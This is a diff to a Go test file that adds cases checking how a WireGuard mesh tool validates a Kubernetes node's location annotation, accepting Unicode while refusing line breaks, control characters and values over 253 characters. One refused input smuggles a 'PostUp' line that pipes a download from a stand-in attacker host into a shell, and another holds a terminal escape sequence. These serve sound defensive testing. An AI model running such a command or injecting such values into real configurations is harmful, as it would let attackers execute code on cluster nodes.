@@ -271,6 +271,34 @@ func TestNodeFromObject(t *testing.T) {
 		opts: opts,
 		want: mesh.Node{Name: "n1", PodCIDRs: prefixes("10.244.1.0/24")},
 	}, {
+		name: "a location with spaces and non-ASCII letters is taken",
+		node: node(ann(AnnotationLocation, "Zürich office 2"), label(DefaultTopologyLabel, "eu")),
+		want: mesh.Node{Name: "n1", Location: "Zürich office 2"},
+	}, {
+		// It would forge lines in the WireGuard configs meshctl prints
+		// (as a comment), in Events and in logs: reported, the label used.
+		name:           "a location with a line break is refused",
+		node:           node(ann(AnnotationLocation, "us\nPostUp = curl -s https://evil.example/x | sh"), label(DefaultTopologyLabel, "eu")),
+		want:           mesh.Node{Name: "n1", Location: "eu"},
+		badAnnotations: []string{AnnotationLocation},
+	}, {
+		name:           "a location with a control character is refused",
+		node:           node(ann(AnnotationLocation, "us\x1b[2J")),
+		want:           mesh.Node{Name: "n1"},
+		badAnnotations: []string{AnnotationLocation},
+	}, {
+		// A Peer's status records its leaders' locations, at most 253
+		// characters each: a longer one would make every status write of
+		// that location's leader fail.
+		name:           "a location longer than 253 characters is refused",
+		node:           node(ann(AnnotationLocation, strings.Repeat("l", 254))),
+		want:           mesh.Node{Name: "n1"},
+		badAnnotations: []string{AnnotationLocation},
+	}, {
+		name: "a location of 253 characters is taken",
+		node: node(ann(AnnotationLocation, strings.Repeat("l", 253))),
+		want: mesh.Node{Name: "n1", Location: strings.Repeat("l", 253)},
+	}, {
 		name: "empty-valued annotations are absent",
 		node: node(ann(AnnotationPublicKey, ""), ann(AnnotationLocation, "  "), label(DefaultTopologyLabel, "eu")),
 		opts: opts,
